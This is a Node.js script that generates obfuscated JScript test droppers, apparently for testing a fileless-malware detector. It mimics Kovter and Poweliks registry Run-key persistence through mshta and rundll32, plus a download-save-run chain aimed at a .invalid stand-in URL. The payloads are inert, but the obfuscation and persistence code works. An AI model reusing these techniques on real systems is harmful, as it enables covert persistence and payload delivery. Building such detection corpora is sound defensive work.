// gen-samples.js - writes the hand-made test droppers of tests/corpus/emu/gen (inert
// payloads; every string that matters exists only at run time). Test-only: run with node
// when a sample changes; the outputs are committed. Usage: node gen-samples.js OUTDIR
var fs = require('fs'), out = process.argv[2] || '.';
function xs(s, k) { return JSON.stringify(s.split('').map(function (c) { return c.charCodeAt(0) ^ k; })); }
var D = 'function d(a) { var s = ""; for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ k); return s; }\n';
var B64 = 'function b64(s) { var c = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", o = ""; for (var i = 0; i < s.length; i += 3) { var n = (s.charCodeAt(i) << 16) | ((s.charCodeAt(i + 1) || 0) << 8) | (s.charCodeAt(i + 2) || 0); o += c.charAt(n >> 18 & 63) + c.charAt(n >> 12 & 63) + c.charAt(n >> 6 & 63) + c.charAt(n & 63); } return o; }\n';

// Kovter: a payload value (base64 of an inert script) and a Run value launching mshta
var k = 23;
fs.writeFileSync(out + '/kovter-runkey.js',
  '// Test dropper written for fileless-milter (inert): Kovter-style registry persistence.\n' +
  '// Run-key path, launcher and payload exist only at run time (XOR-23 char codes, a rotated\n' +
  '// method table); the payload is an inert WScript.Echo.\n' +
  'var k = 23;\n' + D + B64 +
  'var t = [' + [xs('WScript.Shell', k), xs('RegWrite', k), xs('Run', k), xs('ActiveXObject', k)].join(', ') + '];\n' +
  'for (var r = 0; r < 3; r++) t.push(t.shift());\n' +
  'var sh = new (this[d(t[0])])(d(t[1]));\n' +
  'var base = d(' + xs('HKCU\\Software', k) + ');\n' +
  'var run = base + d(' + xs('\\Microsoft\\Windows\\CurrentVersion\\', k) + ') + d(t[3]) + "\\\\" + d(' + xs('upd', k) + ');\n' +
  'var store = base + d(' + xs('\\teststore\\data', k) + ');\n' +
  'var body = ""; for (var j = 0; j < 8; j++) body += d(' + xs("WScript.Echo('inert test payload'); ", k) + ');\n' +
  'sh[d(t[2])](store, b64(body), "REG_SZ");\n' +
  'sh[d(t[2])](run, d(' + xs('mshta javascript:', k) + ') + d(' + xs('eval(new ActiveXObject("WScript.Shell").RegRead("HKCU\\\\Software\\\\teststore\\\\data"));close()', k) + '), "REG_SZ");\n');

// Poweliks: rundll32 javascript: in the Run key default value, built by arithmetic
var p = 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write("inert-test-payload");close()';
var codes = p.split('').map(function (c, i) { return c.charCodeAt(0) * 3 + i; });
fs.writeFileSync(out + '/poweliks-rundll32.js',
  '// Test dropper written for fileless-milter (inert): Poweliks-style Run value with rundll32\n' +
  '// javascript:, decoded at run time from arithmetic char codes; the payload only writes text.\n' +
  'var c = ' + JSON.stringify(codes) + ';\n' +
  'var v = []; for (var i = 0; i < c.length; i++) v.push(String.fromCharCode((c[i] - i) / 3));\n' +
  'var o = ["llehS.tpircSW", "etirWgeR", "nuR\\\\noisreVtnerruC\\\\swodniW\\\\tfosorciM\\\\erawtfoS\\\\UCKH"];\n' +
  'function rv(s) { return s.split("").reverse().join(""); }\n' +
  'var w = WScript.CreateObject(rv(o[0]));\n' +
  'w[rv(o[1])](rv(o[2]) + "\\\\", v.join(""), "REG_SZ");\n');

// download, save, run: names through a decoder with a rotated string table
var strs = ['MSXML2.XMLHTTP', 'GET', 'http://download.example.invalid/upd.exe', 'ADODB.Stream', 'responseBody', 'SaveToFile', '%TEMP%\\upd.exe', 'WScript.Shell', 'ExpandEnvironmentStrings', 'Run', 'open', 'send', 'Write', 'Open'];
var enc = strs.map(function (s) { return Buffer.from(s.split('').reverse().join('')).toString('base64'); });
var rot = 5, tab = enc.slice(rot).concat(enc.slice(0, rot));
fs.writeFileSync(out + '/download-exec.js',
  '// Test dropper written for fileless-milter (inert): download, save and run, every name\n' +
  '// from a rotated table of reversed base64 strings (javascript-obfuscator style). The URL is\n' +
  '// in .invalid; the emulator never connects anywhere.\n' +
  'var _t = ' + JSON.stringify(tab) + ';\n' +
  '(function (a, n) { while (n--) a.unshift(a.pop()); })(_t, ' + rot + ');\n' +
  'function _s(i) { var x = _t[i], c = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", o = "", b = 0, n = 0; for (var j = 0; j < x.length; j++) { var v = c.indexOf(x.charAt(j)); if (v < 0) continue; b = (b << 6) | v; n += 6; if (n >= 8) { n -= 8; o += String.fromCharCode((b >> n) & 255); } } return o.split("").reverse().join(""); }\n' +
  'var h = new ActiveXObject(_s(0)); h[_s(10)](_s(1), _s(2), false); h[_s(11)]();\n' +
  'var st = new ActiveXObject(_s(3)); st[_s(13)](); st.Type = 1; st[_s(12)](h[_s(4)]);\n' +
  'var sh = new ActiveXObject(_s(7)); var f = sh[_s(8)](_s(6));\n' +
  'st[_s(5)](f, 2); st.Close();\n' +
  'sh[_s(9)](f, 0, false);\n');
